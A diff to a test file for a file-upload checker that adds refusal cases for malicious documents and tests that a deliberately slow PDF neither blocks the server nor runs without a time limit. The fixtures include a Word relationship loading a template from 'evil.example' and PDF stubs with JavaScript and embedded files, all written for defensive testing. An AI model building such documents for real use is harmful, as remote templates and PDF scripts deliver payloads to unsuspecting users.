@@ -2,6 +2,7 @@ import sharp from "sharp";
 import { describe, expect, it } from "vitest";
 import { MAX_FILE_BYTES } from "./accepted-files.ts";
 import { checkFile } from "./check-file.server.ts";
+import { fileSentence } from "./file-reasons.ts";
 import { aDocx, anOdt, aPhoto, aPixelBomb, aPng, aZip, text } from "./file-fixture.ts";
 
 const check = async (name: string, bytes: Uint8Array | Promise<Uint8Array>) => {
@@ -59,6 +60,9 @@ describe("a file is refused", () => {
     ["a Word file with macros", "a.docx", () => aDocx({ "word/vbaProject.bin": "x" }), "active"],
     ["a Word file that says so", "a.docm", () => aDocx({}, "application/vnd.ms-word.document.macroEnabled.main+xml"), "active"],
     ["an OpenDocument file with macros", "a.odt", () => anOdt({ "Basic/Standard/Module1.xml": "x" }), "active"],
+    ["a Word file with a template from elsewhere", "a.docx", () => aDocx({ "word/_rels/settings.xml.rels": '<Relationship Type="x/attachedTemplate" Target="https://evil.example" TargetMode="External"/>' }), "active"],
+    ["a PDF with a script", "a.pdf", () => text("%PDF-1.7\n1 0 obj\n<< /S /JavaScript /JS (x) >>"), "active"],
+    ["a PDF with a file in it", "a.pdf", () => text("%PDF-1.7\n1 0 obj\n<< /Type /EmbeddedFile >>"), "active"],
     ["a Java program", "a.zip", () => aZip({ "META-INF/MANIFEST.MF": "Main-Class: A" }), "wrong_type"],
     ["half an archive", "a.zip", () => aZip({ "a.txt": "words" }).slice(0, 40), "unreadable"],
     ["a picture of 2.5 billion pixels", "a.png", aPixelBomb, "too_many_pixels"],
@@ -77,4 +81,27 @@ it("draws a photo anew: upright, without where it was taken and what hides behin
   expect(kept.includes("script")).toBe(false);
   const { width, height, exif, orientation } = await sharp(kept).metadata();
   expect({ width, height, exif, orientation }).toEqual({ width: 6, height: 8, exif: undefined, orientation: undefined });
+});
+
+/** Takes seconds wherever it is read. */
+const slowPdf = () => text(`%PDF-1.7\n${"/S\n".repeat((MAX_FILE_BYTES - 20) / 3)}`);
+
+it("goes on answering while a file is checked that was made to take long", async () => {
+  const bytes = slowPdf();
+  const startMs = performance.now();
+  let [lastMs, longestMs] = [startMs, 0];
+  const timer = setInterval(() => {
+    longestMs = Math.max(longestMs, performance.now() - lastMs);
+    lastMs = performance.now();
+  }, 5);
+  await check("a.pdf", bytes);
+  clearInterval(timer);
+  // A share, as a busy machine makes both longer: on the main thread, the longest pause would be all of it.
+  expect(longestMs).toBeLessThan((performance.now() - startMs) / 3);
+});
+
+it("ends a check that takes too long, and says so", async () => {
+  const checked = await checkFile({ name: "a.pdf", bytes: slowPdf() }, 1);
+  expect(checked).toEqual({ ok: false, refusal: { reason: "too_slow", name: "a.pdf" } });
+  expect(!checked.ok && fileSentence(checked.refusal)).toEqual([422, expect.stringContaining("“a.pdf” could not be checked in time")]);
 });
